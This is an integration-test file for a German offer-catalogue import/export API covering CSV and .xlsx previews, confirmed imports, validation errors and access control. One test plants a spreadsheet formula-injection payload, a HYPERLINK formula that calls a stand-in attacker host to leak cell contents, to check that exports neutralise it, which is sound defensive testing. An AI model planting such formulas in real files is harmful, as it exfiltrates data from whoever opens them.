// The coordinator's catalogue file over HTTP: exported in German (CSV and
// .xlsx), previewed on import (new / changed / removed, unchanged rows not
// counted as changed), imported only on confirmation against the catalogue the
// preview saw, all or nothing; a file with a wrong value names row, column,
// value and allowed values and changes nothing.
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { errorEnvelopeSchema } from '@shared/protocol';
import { offerFileExportSchema, offerImportPreviewSchema, type OfferFile } from '@shared/referral-api';
import { DEMO_MUNICIPALITY_ID } from '@server/db/demo-seed';
import { csvToRows, rowsToCsv, rowsToXlsx, xlsxToRows } from '@server/services/offer-file-io';
import { describeEachDatabase } from '../../helpers/databases';
import { DEMO_COORDINATOR, DEMO_FIELDWORKER, bearer, buildTestApp, login, seedDemo } from '../../helpers/test-app';

describeEachDatabase('offer catalogue file', ({ db }) => {
  let app: FastifyInstance;
  let token: string;

  const call = (method: 'GET' | 'POST', url: string, payload?: object, as = token) =>
    app.inject({ method, url, headers: bearer(as), ...(payload === undefined ? {} : { payload }) });
  const exportFile = async (format: 'csv' | 'xlsx') => {
    const response = await call('GET', `/api/office/offers/export?format=${format}`);
    expect(response.statusCode, response.body).toBe(200);
    return offerFileExportSchema.parse(response.json());
  };
  const csvFile = (rows: string[][]): OfferFile => ({ format: 'csv', text: rowsToCsv(rows) });
  const preview = async (file: OfferFile) => {
    const response = await call('POST', '/api/office/offers/import/preview', { file });
    expect(response.statusCode, response.body).toBe(200);
    return offerImportPreviewSchema.parse(response.json());
  };
  const snapshot = async () =>
    JSON.stringify(await db().query('SELECT * FROM offers WHERE municipality_id = $1 ORDER BY id', [DEMO_MUNICIPALITY_ID]));
  const exportedRows = async () => csvToRows((await exportFile('csv')).content);

  beforeAll(async () => {
    await seedDemo(db());
    app = buildTestApp(db(), { loginRateLimit: { max: 10_000, timeWindowMs: 60_000 } });
    await app.ready();
    token = (await login(app, DEMO_COORDINATOR.username, DEMO_COORDINATOR.password)).token;
  });
  afterAll(async () => {
    await app.close();
  });

  it('exports German headers and values; the unchanged file, CSV or .xlsx, previews no change', async () => {
    const csv = await exportFile('csv');
    expect(csv.fileName).toBe('angebote.csv');
    const rows = csvToRows(csv.content);
    expect(rows[0]?.slice(0, 5)).toEqual(['Kennung', 'Name des Angebots', 'Träger', 'Art des Angebots', 'Altersphasen']);
    expect(csv.content).not.toMatch(/agePhases|familienbildung;|;baby[;,]/);
    const offers = rows.length - 1;
    expect(offers).toBeGreaterThan(3);
    expect(await preview({ format: 'csv', text: csv.content })).toMatchObject({
      problems: [],
      created: [],
      changed: [],
      removed: [],
      kept: [],
      unchanged: offers,
    });

    const xlsx = await exportFile('xlsx');
    expect(xlsx.fileName).toBe('angebote.xlsx');
    expect(await xlsxToRows(Buffer.from(xlsx.content, 'base64'))).toEqual(rows);
    expect(await preview({ format: 'xlsx', base64: xlsx.content })).toMatchObject({
      changed: [],
      created: [],
      removed: [],
      unchanged: offers,
    });
  });

  it('previews one edited cell as one change (with its column), writes nothing until confirmed, then only that offer', async () => {
    const rows = await exportedRows();
    const edited = rows.map((cells) => [...cells]);
    const target = edited[2] ?? [];
    target[11] = 'Mo–Fr 8–12 Uhr';
    const before = await snapshot();
    const plan = await preview(csvFile(edited));
    expect(plan.changed).toEqual([{ id: target[0], name: target[1], columns: ['hours'] }]);
    expect(plan).toMatchObject({ created: [], removed: [], unchanged: rows.length - 2 });
    expect(await snapshot()).toBe(before);

    const timestamps = async () =>
      db().query<{ id: string; updated_at: string }>('SELECT id, updated_at::text FROM offers WHERE municipality_id = $1 ORDER BY id', [
        DEMO_MUNICIPALITY_ID,
      ]);
    const stampsBefore = await timestamps();
    const applied = await call('POST', '/api/office/offers/import', { file: csvFile(edited), baseVersion: plan.baseVersion });
    expect(applied.statusCode, applied.body).toBe(200);
    expect(applied.json()).toEqual({ created: 0, changed: 1, removed: 0 });
    const stampsAfter = await timestamps();
    expect(stampsAfter.filter((row, i) => row.updated_at !== stampsBefore[i]?.updated_at).map((row) => row.id)).toEqual([target[0]]);
    expect((await exportedRows())[2]?.[11]).toBe('Mo–Fr 8–12 Uhr');

    // The same preview confirmed again: the catalogue has changed since, so 409 and nothing written.
    const afterFirst = await snapshot();
    const stale = await call('POST', '/api/office/offers/import', { file: csvFile(rows), baseVersion: plan.baseVersion });
    expect(stale.statusCode).toBe(409);
    expect(await snapshot()).toBe(afterFirst);
  });

  it('counts a new row as new and a deleted row as removed, but keeps an offer families were referred to', async () => {
    const rows = await exportedRows();
    const [header = [], first = [], second = [], ...rest] = rows;
    const added = [...first];
    added[0] = 'neues-angebot';
    added[1] = 'Neues Angebot';
    const staff = await db().query<{ id: string }>('SELECT id FROM staff_accounts WHERE municipality_id = $1 LIMIT 1', [
      DEMO_MUNICIPALITY_ID,
    ]);
    await db().query(
      `INSERT INTO referrals (id, municipality_id, case_number, offer_id, offer_type, record_id, created_by, state)
       VALUES (gen_random_uuid(), $1, 'TEST-CASE', $2, 'familienbildung', gen_random_uuid(), $3, 'handedOver')`,
      [DEMO_MUNICIPALITY_ID, second[0], staff[0]?.id],
    );
    const file = csvFile([header, added, ...rest]);
    const plan = await preview(file);
    expect(plan.created).toEqual([{ id: 'neues-angebot', name: 'Neues Angebot' }]);
    expect(plan.removed).toEqual([{ id: first[0], name: first[1] }]);
    expect(plan.kept).toEqual([{ id: second[0], name: second[1] }]);
    expect(plan.changed).toEqual([]);
    const applied = await call('POST', '/api/office/offers/import', { file, baseVersion: plan.baseVersion });
    expect(applied.json()).toEqual({ created: 1, changed: 0, removed: 1 });
    const ids = (await exportedRows()).map((cells) => cells[0]);
    expect(ids).toContain('neues-angebot');
    expect(ids).toContain(second[0]);
    expect(ids).not.toContain(first[0]);
  });

  it('still imports a file in the first format (English headers and codes)', async () => {
    const rows = await exportedRows();
    const english = [
      'id;name;organisation;type;agePhases;fields;districts;languages;cost;address;phone;hours;whatToBring;partnerOrganisationId',
      'englisch-angebot;Englisches Angebot;Träger;familienbildung;baby,kita;education;;de,tr;;;;;;',
    ].join('\n');
    // The first format's import kept offers not in the file; an English file now previews them as removed.
    const plan = await preview({ format: 'csv', text: english });
    expect(plan.problems).toEqual([]);
    expect(plan.created).toEqual([{ id: 'englisch-angebot', name: 'Englisches Angebot' }]);
    // The other offers as that format had them: its 14 columns, without directions and texts in other languages.
    // What is stored for those stays (the demo midwives' Arabic texts): no offer previews as changed.
    const firstFormat = rows.slice(1).map((cells) => cells.slice(0, 14));
    const withRest = `${english}\n${rowsToCsv(firstFormat).replace(/^\uFEFF/, '')}`;
    const full = await preview({ format: 'csv', text: withRest });
    expect(full).toMatchObject({ problems: [], created: [{ id: 'englisch-angebot' }], changed: [], removed: [] });
  });

  it('reports a wrong value with row, header, value and allowed values, and refuses to import the file', async () => {
    const rows = await exportedRows();
    const edited = rows.map((cells) => [...cells]);
    const row = edited[3] ?? [];
    row[4] = 'Baby, Kleinkinder';
    const plan = await preview(csvFile(edited));
    expect(plan.problems).toEqual([
      {
        row: 4,
        column: 'Altersphasen',
        value: 'Kleinkinder',
        allowed: ['Schwangerschaft', 'Baby', 'Kleinkind', 'Kita-Alter', 'Schulalter'],
        max: null,
        problem: 'notAllowed',
      },
    ]);
    expect(plan).toMatchObject({ created: [], changed: [], removed: [] });
    const before = await snapshot();
    const refused = await call('POST', '/api/office/offers/import', { file: csvFile(edited), baseVersion: plan.baseVersion });
    expect(refused.statusCode).toBe(400);
    const issues = errorEnvelopeSchema.parse(refused.json()).error.issues ?? [];
    expect(issues).toEqual([{ path: 'row.4.agePhases', message: 'notAllowed' }]);
    // The error envelope never echoes the value.
    expect(refused.body).not.toContain('Kleinkinder');
    expect(await snapshot()).toBe(before);

    const broken = await preview({ format: 'csv', text: 'Kennung;Name\nx;"offen\n' });
    expect(broken.problems.map((p) => p.problem)).toEqual(['unreadableFile']);
    const notXlsx = await preview({ format: 'xlsx', base64: Buffer.from('kein Excel').toString('base64') });
    expect(notXlsx.problems.map((p) => p.problem)).toEqual(['unreadableFile']);
    expect(await snapshot()).toBe(before);
  });

  it('keeps formulas out of both files and reads typed values back unchanged', async () => {
    const rows = await exportedRows();
    const edited = rows.map((cells) => [...cells]);
    const row = edited[1] ?? [];
    row[1] = '=HYPERLINK("http://evil.example/?x="&A1,"Info")';
    row[8] = '@SUM(1+1)';
    const plan = await preview(csvFile(edited));
    expect((await call('POST', '/api/office/offers/import', { file: csvFile(edited), baseVersion: plan.baseVersion })).statusCode).toBe(
      200,
    );
    const csv = (await exportFile('csv')).content;
    expect(csv.split('\n').some((line) => line.split(';').some((cell) => /^"?[=+@-]/.test(cell)))).toBe(false);
    expect(csv).toContain(`'=HYPERLINK`);
    const xlsx = await exportFile('xlsx');
    const fromXlsx = await xlsxToRows(Buffer.from(xlsx.content, 'base64'));
    expect(fromXlsx[1]?.[1]).toBe(row[1]);
    expect(await preview({ format: 'xlsx', base64: (await rowsToXlsx(fromXlsx)).toString('base64') })).toMatchObject({
      changed: [],
      created: [],
    });
  });

  it('is for coordinators only', async () => {
    const fieldworker = (await login(app, DEMO_FIELDWORKER.username, DEMO_FIELDWORKER.password)).token;
    expect((await call('GET', '/api/office/offers/export?format=xlsx', undefined, fieldworker)).statusCode).toBe(403);
    const file = { format: 'csv', text: 'Kennung' };
    expect((await call('POST', '/api/office/offers/import/preview', { file }, fieldworker)).statusCode).toBe(403);
  });
});
